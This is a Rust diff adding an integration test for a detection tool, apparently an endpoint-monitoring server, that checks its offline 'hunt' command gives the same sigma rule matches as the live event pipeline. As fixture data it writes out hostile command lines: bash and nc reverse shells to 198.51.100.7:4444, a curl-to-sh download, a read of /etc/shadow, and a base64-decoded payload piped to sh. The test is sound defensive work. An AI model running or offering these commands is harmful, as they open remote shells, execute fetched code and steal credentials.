@@ -436,3 +436,98 @@ fn year_of(path: &Path) -> i32 {
         modified.year()
     }
 }
+
+/// One process exec the way the agent ships it.
+fn exec_event(n: u32, executable: &str, command_line: &str, user: &str) -> serde_json::Value {
+    serde_json::json!({
+        "@timestamp": format!("2026-12-08T09:00:{:02}.000Z", n % 60),
+        "event": {"kind": "event", "category": ["process"], "action": "exec",
+                  "module": "agent", "dataset": "process.exec"},
+        "host": {"name": "web-1"},
+        "user": {"name": user, "id": if user == "root" { "0" } else { "33" }},
+        "process": {
+            "pid": 4000 + n, "name": executable.rsplit('/').next().unwrap(),
+            "executable": executable, "command_line": command_line,
+            "args": command_line.split(' ').collect::<Vec<_>>(),
+            "user": {"name": user, "id": if user == "root" { "0" } else { "33" }},
+            "real_user": {"name": user, "id": if user == "root" { "0" } else { "33" }},
+            "parent": {"pid": 3000 + n, "name": "bash", "executable": "/usr/bin/bash",
+                       "command_line": "-bash"}
+        }
+    })
+}
+
+/// The verdicts `watchpost hunt` gives over events exported from the server are the
+/// verdicts the server gave when the same events were posted: one rule set, one view of
+/// an event.
+#[tokio::test]
+async fn hunt_over_an_export_of_the_server_gives_its_verdicts() {
+    use common::{Server, eventually, get_json, http};
+    let dir = tempfile::tempdir().unwrap();
+    let server = Server::start(dir.path());
+    let http = http();
+    let commands = [
+        ("/usr/bin/bash", "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "root"),
+        ("/usr/bin/sh", "sh -c curl -s http://198.51.100.7/x.sh | sh", "www-data"),
+        ("/usr/bin/cat", "cat /etc/shadow", "www-data"),
+        ("/usr/bin/base64", "base64 -d /tmp/p | sh", "root"),
+        ("/usr/bin/crontab", "crontab /tmp/cron", "www-data"),
+        ("/usr/bin/ls", "ls -la /var/www", "www-data"),
+        ("/usr/bin/git", "git status", "root"),
+        ("/usr/bin/nc", "nc -e /bin/sh 198.51.100.7 4444", "root"),
+    ];
+    let events: Vec<serde_json::Value> = commands
+        .iter()
+        .enumerate()
+        .map(|(i, (exe, cmd, user))| exec_event(i as u32, exe, cmd, user))
+        .collect();
+    let posted = http
+        .post(server.url("/api/v1/events"))
+        .json(&events)
+        .send()
+        .await
+        .unwrap();
+    assert!(posted.status().is_success(), "{}", posted.status());
+    // What the server found: the rules that matched.
+    let live = || async {
+        let body = get_json(&http, server.url("/api/v1/detections?limit=500")).await;
+        body["items"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .filter(|d| d["detector"] == "sigma")
+            .map(|d| d["rule_id"].as_str().unwrap().to_string())
+            .collect::<std::collections::BTreeSet<String>>()
+    };
+    eventually("the server's detections", || async { live().await.len() >= 4 }).await;
+    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
+    let live_rules = live().await;
+
+    // The export: the events API, written out as JSON lines.
+    let exported = get_json(&http, server.url("/api/v1/events?limit=1000")).await;
+    let items = exported["items"].as_array().expect("events");
+    assert_eq!(items.len(), commands.len(), "{exported}");
+    let lines: Vec<String> = items.iter().map(|e| e.to_string()).collect();
+    let export = dir.path().join("export.jsonl");
+    std::fs::write(&export, lines.join("\n")).unwrap();
+    let builtin = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/builtin");
+    let out = run(
+        dir.path(),
+        &[
+            "hunt",
+            export.to_str().unwrap(),
+            "--rules",
+            builtin.to_str().unwrap(),
+            "--format",
+            "jsonl",
+        ],
+    );
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let hunted: std::collections::BTreeSet<String> = text(&out.stdout)
+        .lines()
+        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
+        .filter_map(|row| row["rule_id"].as_str().map(str::to_string))
+        .collect();
+    assert!(!live_rules.is_empty());
+    assert_eq!(hunted, live_rules, "hunt and the live pipeline disagree");
+}
